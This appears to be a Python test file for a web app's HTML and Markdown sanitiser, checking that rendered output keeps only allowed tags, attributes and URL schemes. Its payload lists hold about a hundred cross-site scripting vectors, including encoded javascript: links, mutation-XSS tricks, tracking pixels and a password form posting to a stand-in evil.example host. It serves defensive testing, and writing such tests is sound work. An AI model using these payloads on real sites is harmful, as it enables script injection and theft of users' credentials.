"""Nothing that runs, tracks or misleads survives, whatever the format it was written in."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core import markup
from core.markup.cleaning import clean, is_own_path

# Written out here on purpose: the test must not believe the code's own table.
# fmt: off
TAGS = {
    "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt", "em",
    "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "mark", "ol", "p",
    "pre", "q", "s", "samp", "small", "span", "strike", "strong", "sub", "summary", "sup", "table",
    "tbody", "td", "tfoot", "th", "thead", "tr", "u", "ul", "var",
}
ATTRIBUTES = {
    "align", "alt", "class", "dir", "height", "href", "id", "lang", "loading", "rel", "src",
    "start", "tabindex", "title", "width",
}
# fmt: on
SCHEMES = {"http", "https", "mailto", "tel", "ftp", "sftp", "irc", "ircs", "xmpp"}
VOID = {"br", "hr", "img"}
# What a browser drops from an address before it reads the scheme. Source: URL standard, 4.4.
DROPPED = re.compile(r"\A[\x00-\x20]+|[\t\n\r]")


class Inspector(HTMLParser):
    """Fail on any tag, attribute or address that is not harmless, and on unbalanced tags."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS
        names = [name for name, _value in attrs]
        assert len(names) == len(set(names))
        for name, value in attrs:
            assert name in ATTRIBUTES
            self.inspect(tag, name, value)
        if tag == "a" and "href" in names:
            assert dict(attrs)["rel"] == "ugc nofollow noopener"
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_comment(self, data):
        raise AssertionError("a comment came through")

    handle_decl = handle_pi = unknown_decl = handle_comment

    def inspect(self, tag, name, value):
        if name == "href":
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", DROPPED.sub("", value).lower())
            assert scheme is None or scheme[1] in SCHEMES
        if name == "src":
            assert tag == "img"
            assert ":" not in value.split("?")[0].split("#")[0].split("/")[0]
            assert not re.match(r"[/\\\s]{2}", value)
            assert "\\" not in value
        if name == "id":
            assert re.match(r"guide-|fn(ref)?\d*:", value)
        if name == "tabindex":
            assert (tag in {"pre", "table"}, value) == (True, "0")
        if name == "class":
            assert tag in {"a", "code", "div", "p", "pre", "span"}


def inspect(html):
    Inspector(html)
    assert clean(html) == html  # a second parser's reading finds nothing new to take out


# Marked with alert(1) where a browser would run something.
HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img/src/onerror=alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img src=javascript:alert(1)>",
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<img src=//evil.example/pixel.gif>",
    r"<img src=/\evil.example/pixel.gif>",
    r"<img src=\\evil.example/pixel.gif>",
    "<img src='/\t/evil.example/pixel.gif'>",
    "<img src='\x01//evil.example/pixel.gif'>",
    "<img src=x srcset='https://evil.example/a 1x'>",
    "<picture><source srcset=//evil.example/a><img src=x></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=0 y=9>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body { display: none }</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
    "<div style=behavior:url(x.htc)>x</div>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<form id=a></form><button form=a formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href=x ping=//evil.example target=_top download onclick=alert(1)>x</a>",
    "<a name=body id=location href=x>x</a>",
    "<img name=getElementById id=cookie src=x>",
    "<p id=csrfmiddlewaretoken tabindex=9 class='button primary' hx-get=/x hx-trigger=load>x</p>",
    "<span class='button masthead'>x</span>",
    "<p onmouseover=alert(1) autofocus tabindex=1 contenteditable onfocus=alert(1)>x</p>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee><isindex type=image src=1 onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?php alert(1) ?>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<table background=javascript:alert(1)><td background='//evil.example'>x",
    "<p dir=rtl lang=fr title='\"><img src=x onerror=alert(1)>'>x",
    "<a title='<img src=x>' href=y>"
    "<img alt='\"><script>alert(1)</script>' src=//evil.example/x></a>",
    "<pre><code class='language-\"onload=alert(1)'>x</code></pre>",
    "<pre class='lang-html'><code>&lt;img src=x onerror=alert(1)&gt;</code></pre>",
    "<code><b onclick=alert(1)>&lt;script&gt;</code></b>",
    "<template><script>alert(1)</script></template><slot><portal src=x></portal>",
    "<custom-tag onclick=alert(1) is=x>x</custom-tag>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a href=x\x00 onclick=alert(1)>x</a>",
    "＜script＞alert(1)＜/script＞ \u2028<script\u2029>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JavaScript:alert(1) 'title')",
    "[x](<javascript:alert(1)>)",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1)) [x](file:///etc/passwd)",
    "<javascript:alert(1)> <data:text/html,alert(1)>",
    "[x]: javascript:alert(1)\n\n[x] [y][x] ![z][x]",
    "![x](javascript:alert(1)) ![x](data:image/svg+xml,%3Csvg/onload=alert(1)%3E)",
    "![x](//evil.example/pixel.gif) ![x](https://evil.example/pixel.gif)",
    r"![x](/\evil.example/pixel.gif) ![x](\\evil.example/pixel.gif)",
    '![x" onerror="alert(1)](/x "t\\" onerror=\\"alert(1)")',
    '[x](/x "t&quot; onclick=&quot;alert(1)")',
    "[![x](https://evil.example/a.png)](https://evil.example)",
    '```html"onload="alert(1)\n<img src=x onerror=alert(1)>\n```',
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    "``` {onclick=alert(1)}\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n|:-|\n| [x](javascript:alert(1)) |",
    'https://evil.example/"onmouseover="alert(1) http://javascript:alert(1)',
    '@zoe"onclick="alert(1) @<script>',
    "[x](/x){onclick=alert(1)}\n{: onclick=alert(1) id=location }",
    "# x {#location onclick=alert(1)}\n\n[TOC]\n\n## <script>alert(1)</script>",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    "x[^<script>]\n\n[^<script>]: alert(1)",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
]
RENDERERS = [markup.render_post, markup.render_imported_html, markup.render_guide]


@pytest.mark.parametrize("render", RENDERERS)
@pytest.mark.parametrize("text", HTML + MARKDOWN)
def test_nothing_executable_survives(render, text):
    inspect(render(text))
    inspect(render(f"before {text} *after*\n\n> {text}\n\n- {text}"))


@pytest.mark.parametrize("render", RENDERERS)
def test_everything_at_once_stays_harmless(render):
    inspect(render("\n\n".join(HTML + MARKDOWN)))
    inspect(render("".join(HTML + MARKDOWN)))


@pytest.mark.parametrize(
    "address",
    ["/a.png", "a.png", "./a.png", "../a.png?x=http://b", "/a//b", "?a", "#a", "/é.png", "/a:b"],
)
def test_own_addresses_are_known(address):
    assert is_own_path(address)


@pytest.mark.parametrize(
    "address",
    [
        "http:a",
        "https://a",
        "//a",
        r"/\a",
        r"\/a",
        r"\\a",
        "/\t/a",
        "\t//a",
        " //a",
        "a:b",
        "",
        "data:,x",
    ],
)
def test_other_addresses_are_not_taken_for_own_ones(address):
    assert not is_own_path(address)


# Pieces that formats and parsers care about, so that random texts get into their corners.
# fmt: off
PIECES = st.sampled_from([
    *HTML, *MARKDOWN, *"[]()!*_~`<>&\\|#-+=:;\"'@\n\t /", "](", "![", "<a ", "</", "<!--", "```",
    "\n\n", "    ", "> ", "- ", "1. ", "://", "javascript:", "&#", "<p>", "<b>", "<table>",
    "<pre><code>", "\u202e", "\u2066", "\x00", "\ud800", "é", "مرحبا", "a\u0301", "\U0001f642",
    "[^1]", "!!! note\n",
])
# fmt: on
TEXTS = st.one_of(
    st.text(), st.lists(st.one_of(PIECES, st.text(max_size=5)), max_size=30).map("".join)
)


@pytest.mark.parametrize("render", RENDERERS)
@settings(max_examples=150, deadline=None)
@given(text=TEXTS)
def test_any_text_becomes_harmless_html(render, text):
    html = render(text)

    inspect(html)
    Inspector(markup.highlight(markup.plain_text(html), ["a", "script"]))
    assert "\ud800" not in html
    assert "\x00" not in html


@settings(max_examples=150, deadline=None)
@given(
    text=st.text(),
    words=st.lists(st.text(max_size=4)),
    spans=st.lists(st.tuples(st.integers(-3, 30), st.integers(-3, 30))),
)
def test_highlighting_changes_no_text(text, words, spans):
    for marked in (markup.highlight(text, words), markup.highlight(text, spans)):
        assert re.sub(r"</?mark>", "", marked) == markup.highlight(text, [])
        assert "<mark></mark>" not in marked
        assert marked.count("<mark>") == marked.count("</mark>")


@settings(max_examples=150, deadline=None)
@given(text=TEXTS, length=st.integers(1, 80))
def test_an_excerpt_is_the_beginning_of_the_words(text, length):
    html = markup.render_post(text)
    words = markup.plain_text(html)
    short = markup.excerpt(html, length)

    assert len(short) <= length
    assert words == short or (short.endswith("…") and words.startswith(short[:-1]))
